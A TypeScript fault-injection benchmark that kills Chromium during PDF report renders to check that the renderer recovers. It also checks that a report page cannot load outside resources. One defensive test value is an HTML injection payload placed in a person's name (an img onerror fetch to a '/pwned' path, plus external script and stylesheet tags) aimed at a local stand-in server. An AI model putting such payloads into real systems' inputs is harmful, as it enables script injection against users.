/**
 * Fault: Chromium killed (SIGKILL) in the middle of a PDF render (issue #13). The shared
 * PdfRenderer must notice the dead browser, start a new one and answer the render anyway; and
 * the report page must load nothing from outside (a local HTTP server counts what reaches it).
 *
 *   npx tsx tools/bench/fault-pdf-chromium-kill.bench.ts [kills]
 *
 * Exits non-zero if a render is lost or a request leaves the page; prints the figures.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { performance } from 'node:perf_hooks';
import { currentNorms, scoreAnswers } from '@facet/assessment-domain';
import { randomAnswerSet, seededRandom } from '@facet/assessment-domain/testing';
import { chromiumChildren, PdfRenderer, reportHtml } from '@facet/reports-api';
import { resultReport } from '@facet/reports-domain';

const kills = Number(process.argv[2] ?? 5);
const random = seededRandom(13);
const deadline = Date.now() + 4 * 60_000;

function reportFor(index: number, personName: string): string {
  const report = resultReport(
    {
      result_id: index + 1,
      number: 1,
      date: new Date().toISOString(),
      scores: scoreAnswers(randomAnswerSet(random)),
      norm_version: currentNorms.version,
    },
    'en',
    'person',
  );
  return reportHtml({ inform: report, personName, companyName: null });
}

const isPdf = (document: Buffer) => document.subarray(0, 5).toString('latin1') === '%PDF-';
const format = (milliseconds: number) => `${milliseconds.toFixed(0).padStart(6)} ms`;

// A server standing for "the outside": whatever the page tried to fetch would land here.
const outsideRequests: string[] = [];
const outside = createServer((request, response) => {
  outsideRequests.push(request.url ?? '');
  response.end();
});
await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
const outsideUrl = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
const hostileName =
  `<img src="${outsideUrl}/name.png" onerror="fetch('${outsideUrl}/pwned')">` +
  `<script src="${outsideUrl}/name.js"></script><link rel="stylesheet" href="${outsideUrl}/name.css">`;

const renderer = new PdfRenderer({ poolSize: 3 });
const failures: string[] = [];
const killedRenders: number[] = [];
let killsLanded = 0;
let rendersAnswered = 0;
try {
  let started = performance.now();
  await renderer.warmUp();
  const warm: number[] = [];
  for (let index = 0; index < 3; index += 1) {
    started = performance.now();
    await renderer.render(reportFor(index, `Person ${index}`));
    warm.push(performance.now() - started);
  }

  for (let round = 0; round < kills && Date.now() < deadline; round += 1) {
    const [browser] = chromiumChildren();
    if (!browser) throw new Error('No Chromium is running before the kill');
    let settled = false;
    started = performance.now();
    // Three renders at once on the pool, so the kill catches pages in several states.
    const renders = Promise.allSettled(
      [0, 1, 2].map((page) => renderer.render(reportFor(round * 3 + page, `Round ${round}`))),
    ).finally(() => {
      settled = true;
    });
    await new Promise((resolve) => setTimeout(resolve, 20 + Math.floor(random() * 120)));
    if (!settled) killsLanded += 1;
    process.kill(browser, 'SIGKILL');
    for (const outcome of await renders) {
      if (outcome.status === 'rejected') failures.push(`round ${round}: ${String(outcome.reason)}`);
      else if (!isPdf(outcome.value)) failures.push(`round ${round}: not a PDF`);
      else rendersAnswered += 1;
    }
    killedRenders.push(performance.now() - started);
    if (chromiumChildren().includes(browser))
      failures.push(`round ${round}: browser ${browser} survived`);
  }

  const hostile = await renderer.render(reportFor(999, hostileName));
  if (!isPdf(hostile)) failures.push('the report with a hostile name is not a PDF');
  // Give a request that slipped out time to arrive before counting.
  await new Promise((resolve) => setTimeout(resolve, 300));

  killedRenders.sort((a, b) => a - b);
  warm.sort((a, b) => a - b);
  console.log(`warm render median                      ${format(warm[1]!)}`);
  console.log(
    `kills (SIGKILL of Chromium)             ${String(killedRenders.length).padStart(9)}`,
  );
  console.log(`kills that landed mid-render            ${String(killsLanded).padStart(9)}`);
  console.log(
    `renders answered / started              ${String(rendersAnswered).padStart(5)} / ${killedRenders.length * 3}`,
  );
  console.log(
    `3 renders with a kill, median           ${format(killedRenders[Math.floor(killedRenders.length / 2)] ?? Number.NaN)}`,
  );
  console.log(
    `3 renders with a kill, worst            ${format(killedRenders.at(-1) ?? Number.NaN)}`,
  );
  console.log(
    `requests that left the PDF page         ${String(outsideRequests.length).padStart(9)}`,
  );
} finally {
  await renderer.close();
  await new Promise<void>((resolve) => outside.close(() => resolve()));
}
if (outsideRequests.length > 0) failures.push(`the page fetched ${outsideRequests.join(', ')}`);
if (killsLanded === 0) failures.push('no kill landed during a render: the fault was not exercised');
for (const failure of failures) console.error(`FAILED ${failure}`);
process.exit(failures.length > 0 ? 1 : 0);
